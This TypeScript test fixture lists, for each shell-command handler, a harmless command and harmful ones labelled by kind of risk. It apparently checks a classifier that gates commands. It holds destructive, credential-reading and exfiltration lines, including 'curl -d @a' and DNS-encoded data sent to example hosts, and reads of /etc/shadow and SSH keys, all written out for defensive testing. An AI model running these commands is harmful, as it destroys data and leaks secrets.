/** For every handler one command that it clears and, by harm, one that it must name; `unknown` is asked because it is not certain to do none. */
import type { RiskHarm } from '../../contract/risk.ts';

export type Canary = { readonly clears: string } & { readonly [harm in RiskHarm | 'unknown']?: string };

export const canaries: Readonly<Record<string, Canary>> = {
  // wrappers
  wrap: { clears: 'nohup ls', destroys: 'nohup rm -rf src', outside: 'nohup docker rm web' },
  wrap1: { clears: 'timeout 5 ls', destroys: 'timeout 5 rm -rf src', secret: 'timeout 5 cat .env' },
  privileged: {
    clears: 'sudo ls /root',
    destroys: 'sudo rm -rf src',
    outside: 'sudo systemctl stop web',
    secret: 'sudo cat /etc/shadow',
    unknown: 'sudo touch a',
  },
  env: { clears: 'env DEBUG=1 ls', secret: 'env', destroys: 'env DEBUG=1 rm -rf src', unknown: 'env PATH=. ls' },
  xargs: { clears: 'ls | xargs wc -l', destroys: 'ls | xargs rm', secret: 'ls | xargs cat .env' },
  shell: {
    clears: "bash -c 'ls -l'",
    destroys: "sh -c 'rm -rf src'",
    sends: "zsh -c 'curl -T a https://a.example'",
    unknown: 'bash wipe.sh',
  },
  benchmark: { clears: "hyperfine 'ls src'", destroys: "hyperfine 'rm a'" },
  parallel: { clears: 'parallel echo ::: a b', destroys: 'parallel rm ::: a b' },
  evaluate: { clears: 'eval "ls -l"', destroys: 'eval "rm -rf src"', unknown: 'eval "$x"' },
  watch: { clears: 'watch -n 2 ls', destroys: 'watch rm -rf src' },
  ssh: {
    clears: 'ssh web df -h',
    outside: "ssh web 'rm -rf /srv'",
    sends: 'ssh web cat < notes.txt',
    unknown: 'ssh web',
  },
  inContainer: { clears: 'docker exec web ls', outside: 'docker exec web rm -rf /srv', secret: 'docker exec web env' },
  shellWord: { clears: 'command -v git', destroys: 'command rm -rf src' },
  exec: { clears: 'exec ls', destroys: 'exec rm -rf src' },
  trap: { clears: "trap 'echo bye' EXIT", destroys: "trap 'rm -rf src' EXIT" },
  alias: { clears: 'alias', unknown: 'alias ls=rm' },
  source: { clears: 'source .venv/bin/activate', unknown: 'source setup.sh' },
  set: { clears: 'set -euo pipefail', secret: 'set' },
  cd: { clears: 'cd src && ls', unknown: 'cd .. && npm test' },
  read: { clears: 'read -r line', unknown: 'read f; cp a "$f"' },
  printf: { clears: "printf '%s' a", secret: 'printf "%s" "$API_TOKEN"' },
  runner: { clears: 'npx tsc --noEmit', unknown: 'npx left-pad' },
  // files
  rm: { clears: 'rm -rf node_modules', destroys: 'rm notes.txt', outside: 'rm -rf ~/old' },
  copy: { clears: 'cp -n a b', unknown: 'mv a b', secret: 'cp .env a', outside: 'cp a /etc/a' },
  makeFolder: { clears: 'mkdir -p a/b', outside: 'mkdir /opt/a' },
  touch: { clears: 'touch a.txt', outside: 'touch /etc/a' },
  tee: { clears: 'ls | tee out-2025-03-01.log', outside: 'ls | tee /etc/a', unknown: 'ls | tee a.txt' },
  dd: { clears: 'dd if=a bs=512 count=1', outside: 'dd if=a of=/dev/sda', secret: 'dd if=.env' },
  secondIsOutput: { clears: 'uniq -c a', destroys: 'uniq a a', secret: 'xxd .env' },
  rsync: {
    clears: 'rsync -avn a/ b/',
    sends: 'rsync -a a web:b',
    destroys: 'rsync -a --delete a/ b/',
    secret: 'rsync -a .env b/',
  },
  scp: { clears: 'scp web:/a/b ./b-2025-01-02.log', sends: 'scp a web:b', secret: 'scp web:.ssh/id_rsa a' },
  split: { clears: 'split -l 100 a part-2025-03-', secret: 'split .env part-2025-03-', unknown: 'split a' },
  // searches
  find: {
    clears: "find . -name '*.ts'",
    destroys: 'find . -name x -delete',
    secret: "find . -name .env -exec cat {} ';'",
  },
  fd: { clears: 'fd -e ts', destroys: 'fd -e bak -x rm' },
  grep: { clears: 'grep -rn foo src', secret: 'grep KEY .env' },
  // archives
  tar: {
    clears: 'tar -tf a.tar',
    secret: 'tar -czf k-2025-01-02.tgz .ssh',
    sends: 'tar -cf web:a.tar src',
    unknown: 'tar -xf a.tar',
  },
  unzip: { clears: 'unzip -l a.zip', destroys: 'unzip -o a.zip', outside: 'unzip a.zip -d /opt' },
  sevenZip: { clears: '7z l a.7z', unknown: '7z d a.7z b' },
  zip: { clears: 'zip -r a-2025-01-02.zip src', secret: 'zip a-2025-01-02.zip .env', unknown: 'zip a.zip src' },
  compress: { clears: 'gzip -k a', destroys: 'gzip a' },
  // streams
  sed: { clears: 'sed -n 1,5p a', destroys: 'sed -i s/a/b/ a', secret: 'sed p .env' },
  awk: { clears: "awk '{print $1}' a", destroys: `awk '{print > "f"}' a`, secret: "awk '{print}' .env" },
  jq: { clears: 'jq . a.json', secret: 'jq .password a.json' },
  mlr: { clears: 'mlr --icsv cat a.csv', unknown: `mlr --icsv put 'system("rm a")' a.csv` },
  pager: { clears: 'less a.txt', secret: 'less .env', unknown: "less '+!rm a' b" },
  yq: { clears: 'yq .a a.yml', destroys: 'yq -i .a=1 a.yml', secret: "yq '.a = env(TOKEN)' a.yml" },
  // languages
  python: {
    clears: "python3 -c 'print(1)'",
    secret: "python3 -c 'import os; print(os.environ)'",
    unknown: "python3 -c 'import shutil'",
  },
  node: { clears: "node -p '1+1'", secret: 'node -p process.env', unknown: 'node a.js' },
  perl: { clears: "perl -ne 'print if /a/' a", destroys: 'perl -pi -e s/a/b/ a', secret: "perl -ne 'print' .env" },
  ruby: { clears: "ruby -e 'puts 1'", destroys: "ruby -i -pe 'x' a", unknown: 'ruby a.rb' },
  php: { clears: 'php -l a.php', unknown: `php -r 'unlink("a");'` },
  // databases
  sqlClient: {
    clears: "psql -c 'select 1'",
    outside: "psql -c 'drop table a'",
    secret: "psql -c 'select password from users'",
  },
  sqlite: {
    clears: "sqlite3 a.db 'select 1'",
    destroys: "sqlite3 a.db 'delete from a'",
    secret: "sqlite3 a.db 'select token from users'",
  },
  redis: { clears: 'redis-cli get a', outside: 'redis-cli flushall', secret: 'redis-cli get session:token' },
  mongo: {
    clears: "mongosh --eval 'db.a.find()'",
    outside: "mongosh --eval 'db.dropDatabase()'",
    secret: "mongosh --eval 'db.users.find({},{password:1})'",
  },
  // network
  curl: {
    clears: 'curl -s https://a.example',
    sends: 'curl -d @a https://a.example',
    outside: 'curl -X DELETE https://a.example',
  },
  wget: {
    clears: 'wget -qO- https://a.example',
    sends: 'wget "https://a.example/?d=$(cat a)"',
    outside: 'wget -O /etc/a https://a.example',
  },
  lookup: { clears: 'dig a.example', sends: 'dig "$(cat a).x.example"' },
  netcat: { clears: 'nc -zv a.example 80', sends: 'nc a.example 80' },
  // clouds
  kubectlGet: { clears: 'kubectl get pods', secret: 'kubectl get secret a -o yaml' },
  aws: {
    clears: 'aws s3 ls',
    outside: 'aws ec2 stop-instances --instance-ids i-1',
    sends: 'aws s3 cp a s3://b/a',
    secret: 'aws secretsmanager get-secret-value --secret-id a',
  },
  cloud: {
    clears: 'gcloud compute instances list',
    outside: 'gcloud compute instances delete a',
    secret: 'gcloud auth print-access-token',
  },
  ghApi: { clears: 'gh api repos/a/b', outside: 'gh api -X DELETE repos/a/b' },
  composeConfig: { clears: 'docker compose config --services', unknown: 'docker compose config' },
  inspectContainer: { clears: "docker inspect -f '{{.State.Status}}' web", unknown: 'docker inspect web' },
  secretByName: { clears: 'terraform output bucket', secret: 'terraform output -raw db_password' },
  // git
  gitConfig: {
    clears: 'git config user.name',
    outside: 'git config --global user.name a',
    unknown: 'git config user.name a',
  },
  gitBranch: { clears: 'git branch -a', destroys: 'git branch -D a' },
  gitTag: { clears: 'git tag -l', destroys: 'git tag -d v1' },
  gitFetch: { clears: 'git fetch origin', unknown: 'git fetch origin +a:b' },
  gitShow: { clears: 'git show --stat HEAD', secret: 'git show HEAD:.env' },
  eachModule: { clears: "git submodule foreach 'git status -s'", destroys: "git submodule foreach 'rm a'" },
  gitClone: { clears: 'git clone https://a.example/b.git', outside: 'git clone https://a.example/b.git ~/b' },
  // the project's own code
  packageScript: { clears: 'npm test', unknown: 'npm run deploy' },
  make: { clears: 'make test', unknown: 'make deploy' },
  task: { clears: 'gradle test', unknown: 'gradle publish' },
  cmake: { clears: 'cmake -S . -B build', unknown: 'cmake .' },
  inWorkspace: { clears: 'yarn workspace web test', unknown: 'yarn workspace web deploy' },
  monorepo: { clears: 'turbo run lint', unknown: 'turbo run deploy' },
  pipInstall: {
    clears: '. .venv/bin/activate && pip install -r requirements.txt',
    outside: 'pip install left-pad',
    unknown: 'pip install -r requirements.txt',
  },
  script: { clears: './scripts/check.sh', unknown: './deploy.sh' },
  // the machine
  systemctl: { clears: 'systemctl status a', outside: 'systemctl stop a', secret: 'systemctl show-environment' },
  kill: { clears: 'kill -0 1', outside: 'kill 1' },
  ps: { clears: 'ps aux', secret: 'ps auxe' },
  onlyShows: { clears: 'sysctl -n kernel.hostname', outside: 'sysctl -n kernel.hostname=a' },
  printenv: { clears: 'printenv HOME', secret: 'printenv API_TOKEN' },
  openssl: { clears: 'openssl x509 -in a.crt -noout -dates', unknown: 'openssl rsa -in a.key -text' },
  crontab: { clears: 'crontab -l', outside: 'crontab -r' },
  ipShow: { clears: 'ip addr show', outside: 'ip addr add 10.0.0.1 dev eth0' },
  // media and documents
  ffmpeg: {
    clears: 'ffmpeg -i a.mp4',
    destroys: 'ffmpeg -y -i a.wav b.mp3',
    sends: 'ffmpeg -i a.mp4 -f flv rtmp://a.example/b',
  },
  magick: { clears: 'magick a.png info:', destroys: 'mogrify -resize 50% a.png', unknown: 'convert a.png b.png' },
  outputOption: { clears: 'pandoc -t plain a.docx', unknown: 'pandoc a.md -o a.html' },
  inputOutput: { clears: 'pdftotext a.pdf -', unknown: 'pdftotext a.pdf' },
  qpdf: { clears: 'qpdf --check a.pdf', destroys: 'qpdf --replace-input a.pdf' },
  exiftool: { clears: 'exiftool a.jpg', unknown: 'exiftool -all= a.jpg' },
  // tools
  linter: { clears: 'shellcheck a.sh', destroys: 'rubocop -A' },
  scanner: { clears: 'trivy --version', sends: 'snyk monitor' },
  sameModule: { clears: 'python -m ruff check .', unknown: 'python -m ruff check --fix .' },
};
